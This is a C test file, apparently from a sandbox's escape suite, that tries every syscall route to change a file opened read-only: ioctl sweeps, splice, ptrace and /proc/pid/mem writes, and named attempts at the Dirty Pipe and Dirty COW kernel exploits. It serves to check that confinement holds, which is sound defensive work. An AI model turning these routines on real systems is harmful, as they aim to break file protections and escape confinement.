// Changes a lower file through a read-only descriptor, by every route that leads to it.
// natively: escapes
#include "attack.h"
#include <linux/aio_abi.h>
#include <linux/fs.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/sendfile.h>
#include <sys/xattr.h>

static const char text[] = "changed by the attack";

static char *link_of(int fd) {
  static char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  return path;
}

static void metadata(int fd) {
  struct timespec times[2] = {{1, 0}, {1, 0}};
  struct timeval old_times[2] = {{1, 0}, {1, 0}};
  fchmod(fd, 0777);
  syscall(SYS_fchmodat, AT_FDCWD, link_of(fd), 0777);
  syscall(452, fd, "", 0777, AT_EMPTY_PATH); // fchmodat2
  fchown(fd, getuid(), getgid());
  fchownat(fd, "", getuid(), getgid(), AT_EMPTY_PATH);
  futimens(fd, times);
  syscall(SYS_utimensat, fd, "", times, AT_EMPTY_PATH);
  syscall(SYS_futimesat, fd, NULL, old_times);
  fsetxattr(fd, "user.attack", "x", 1, 0);
  setxattr(link_of(fd), "user.attack", "x", 1, 0);
  fremovexattr(fd, "user.lower");
  ftruncate(fd, 0);
  truncate(link_of(fd), 0);
  for (int mode = 0; mode < 128; mode++) fallocate(fd, mode, 0, 4096);
  linkat(fd, "", AT_FDCWD, "data/linked", AT_EMPTY_PATH);
  linkat(AT_FDCWD, link_of(fd), AT_FDCWD, "data/linked2", AT_SYMLINK_FOLLOW);
}

static void requests(int fd, int other) {
  int flags = 0x10 | 0x20; // FS_IMMUTABLE_FL, FS_APPEND_FL
  char block[4096] = {1};
  struct file_clone_range clone = {.src_fd = other};
  ioctl(fd, FS_IOC_SETFLAGS, &flags);
  ioctl(fd, FS_IOC_FSSETXATTR, block);
  ioctl(fd, FS_IOC_SETVERSION, &flags);
  ioctl(fd, FICLONE, other);
  ioctl(fd, FICLONERANGE, &clone);
  ioctl(fd, FIDEDUPERANGE, block);
  ioctl(fd, FIFREEZE, 0);
  ioctl(fd, FITRIM, block);
  ioctl(fd, 0x40086602 | 0xffffffff00000000ul, &flags); // FS_IOC_SETFLAGS with high bits
  // All of ext4's, btrfs' and fscrypt's.
  for (int type = 0; type < 3; type++)
    for (unsigned number = 0; number < 64; number++)
      for (int direction = 0; direction < 4; direction++) ioctl(fd, direction << 30 | 8 << 16 | "fX\x94"[type] << 8 | number, block);
  ioctl(fd, 0x6601, 0); // EXT4_IOC_... without a size
  fcntl(fd, F_SETLEASE, F_RDLCK);
  fcntl(fd, F_SETLEASE, F_WRLCK);
  fcntl(fd, F_NOTIFY, 0x80000000 | 2);
  fcntl(fd, 1036 /* F_SET_RW_HINT */, &(uint64_t){5});
  fcntl(fd, 1038 /* F_SET_FILE_RW_HINT */, &(uint64_t){5});
  fcntl(fd, F_SETFL, O_APPEND | O_NOATIME | O_DIRECT);
  fcntl(fd, F_ADD_SEALS, 15);
}

static void contents(int fd) {
  int pipes[2];
  write(fd, text, sizeof text);
  pwrite(fd, text, sizeof text, 0);
  struct iovec iov = {(void *)text, sizeof text};
  pwritev2(fd, &iov, 1, 0, 0);
  NEEDS(pipe(pipes) == 0);
  write(pipes[1], text, sizeof text);
  splice(pipes[0], NULL, fd, &(loff_t){0}, sizeof text, 0);
  int source = memfd_create("source", 0);
  write(source, text, sizeof text);
  sendfile(fd, source, &(off_t){0}, sizeof text);
  copy_file_range(source, &(loff_t){0}, fd, &(loff_t){0}, sizeof text, 0);
  // The file's own pages in a pipe, written over there (Dirty Pipe).
  lseek(fd, 0, SEEK_SET);
  if (splice(fd, &(loff_t){0}, pipes[1], NULL, 1, 0) == 1) write(pipes[1], text, sizeof text);
  aio_context_t context = 0;
  syscall(SYS_io_setup, 8, &context);
  int operations[] = {IOCB_CMD_PWRITE, IOCB_CMD_PWRITEV, IOCB_CMD_FSYNC, 5, 6};
  for (unsigned i = 0; i < 5; i++) {
    struct iocb block = {.aio_lio_opcode = operations[i], .aio_fildes = fd, .aio_buf = (uintptr_t)text, .aio_nbytes = sizeof text};
    struct iocb *blocks[] = {&block};
    struct io_event event;
    if (syscall(SYS_io_submit, context, 1, blocks) == 1) syscall(SYS_io_getevents, context, 1, 1, &event, NULL);
  }
  syscall(SYS_io_destroy, context);
  close(pipes[0]);
  close(pipes[1]);
  close(source);
}

static void memory(int fd, int reopened) {
  if (mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0) != MAP_FAILED) escaped("a writable shared mapping");
  if (mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED_VALIDATE, reopened, 0) != MAP_FAILED) escaped("a writable mapping by O_PATH");
  char *shared = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0), *private = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
  NEEDS(shared != MAP_FAILED && private != MAP_FAILED);
  if (mprotect(shared, 4096, PROT_READ | PROT_WRITE) == 0) memcpy(shared, text, sizeof text);
  struct iovec local = {(void *)text, sizeof text}, remote = {shared, sizeof text};
  process_vm_writev(getpid(), &local, 1, &remote, 1, 0);
  // A tracer writes where its tracee may not: into a private copy, never into the file.
  pid_t pid = fork();
  if (pid == 0) {
    ptrace(PTRACE_TRACEME, 0, 0, 0);
    raise(SIGSTOP);
    _exit(0);
  }
  int status;
  waitpid(pid, &status, 0);
  for (int i = 0; i < 100; i++) {
    ptrace(PTRACE_POKEDATA, pid, shared, *(long *)text);
    ptrace(PTRACE_POKEDATA, pid, private, *(long *)text);
  }
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/mem", pid);
  int mem = open(path, O_RDWR);
  if (mem >= 0) {
    pwrite(mem, text, sizeof text, (off_t)(uintptr_t)shared);
    pwrite(mem, text, sizeof text, (off_t)(uintptr_t)private);
    close(mem);
  }
  kill(pid, SIGKILL);
  waitpid(pid, &status, 0);
  // Dirty COW: a private mapping that is thrown away while it is written to from outside.
  int self = open("/proc/self/mem", O_RDWR);
  for (double end = now() + patience() / 4; now() < end;) {
    if (self >= 0) pwrite(self, text, sizeof text, (off_t)(uintptr_t)private);
    process_vm_writev(getpid(), &local, 1, &(struct iovec){private, sizeof text}, 1, 0);
    madvise(private, 4096, MADV_DONTNEED);
  }
  close(self);
  madvise(shared, 4096, 9 /* MADV_REMOVE */);
  madvise(shared, 4096, 23 /* MADV_POPULATE_WRITE */);
  remap_file_pages(shared, 4096, 0, 0, 0);
  msync(shared, 4096, MS_SYNC | MS_INVALIDATE);
}

// Another descriptor of the same file, by every way to get one.
static void again(int fd) {
  int modes[] = {O_WRONLY, O_RDWR, O_RDWR | O_TRUNC, O_WRONLY | O_APPEND, O_RDWR | O_DIRECT, 3};
  int path = open(link_of(fd), O_PATH);
  for (unsigned i = 0; i < 6; i++) {
    // What is written to under uwrx is a copy; that the lower file stays is what the driver looks at.
    int fds[] = {open(link_of(fd), modes[i]), open(path >= 0 ? link_of(path) : "", modes[i]), openat(fd, "", modes[i]),
                 open("/dev/fd/3", modes[i]), open("/proc/thread-self/fd/3", modes[i])};
    for (unsigned j = 0; j < 5; j++) {
      if (fds[j] < 0) continue;
      contents(fds[j]);
      close(fds[j]);
    }
  }
  if (path >= 0) metadata(path);
  close(path);
}

static void passed(int fd) {
  int pair[2];
  NEEDS(socketpair(AF_UNIX, SOCK_STREAM, 0, pair) == 0);
  union {
    struct cmsghdr header;
    char bytes[CMSG_SPACE(sizeof(int))];
  } control = {.header = {CMSG_LEN(sizeof(int)), SOL_SOCKET, SCM_RIGHTS}};
  *(int *)CMSG_DATA(&control.header) = fd;
  struct iovec iov = {"x", 1};
  struct msghdr message = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
  NEEDS(sendmsg(pair[0], &message, 0) == 1);
  char byte;
  iov.iov_base = &byte;
  NEEDS(recvmsg(pair[1], &message, 0) == 1);
  int received = *(int *)CMSG_DATA(&control.header);
  metadata(received);
  contents(received);
  int pidfd = (int)syscall(SYS_pidfd_open, getpid(), 0);
  int stolen = (int)syscall(SYS_pidfd_getfd, pidfd, received, 0);
  metadata(stolen);
  contents(stolen);
}

int main(void) {
  const char *names[] = {"data/hello.txt", "data/numbers.txt", "data/readonly", "data/script.sh", "data/foreign/public", "data/dir/a", "/bin/true"};
  for (unsigned i = 0; i < sizeof names / sizeof *names; i++) {
    if (i == 6 && !getenv("ATTACK_SUPERVISOR")) continue;
    int fd = open(names[i], O_RDONLY);
    NEEDS(fd >= 0);
    dup2(fd, 3);
    int path = open(names[i], O_PATH), other = open("data/empty", O_RDONLY);
    contents(fd);
    memory(fd, path);
    requests(fd, other);
    again(fd);
    passed(fd);
    metadata(fd);
    metadata(path);
    requests(path, other);
    close(fd);
    close(path);
    close(other);
  }
  // Directories: their times, modes, attributes, and what is in them.
  int directory = open("data/dir", O_RDONLY | O_DIRECTORY);
  requests(directory, directory);
  metadata(directory);
  unlinkat(directory, "a", 0);
  renameat(directory, "b", directory, "renamed");
  mkdirat(directory, "made", 0755);
  // Programs that run: the file of a process, through its link.
  int self = open("/proc/self/exe", O_WRONLY);
  if (self >= 0) write(self, text, sizeof text);
  IN_CHILD {
    int running = open("/proc/self/exe", O_RDONLY);
    unlink("/proc/self/exe");
    NEEDS(running >= 0);
    again(running);
    contents(running);
  }
  return verdict();
}
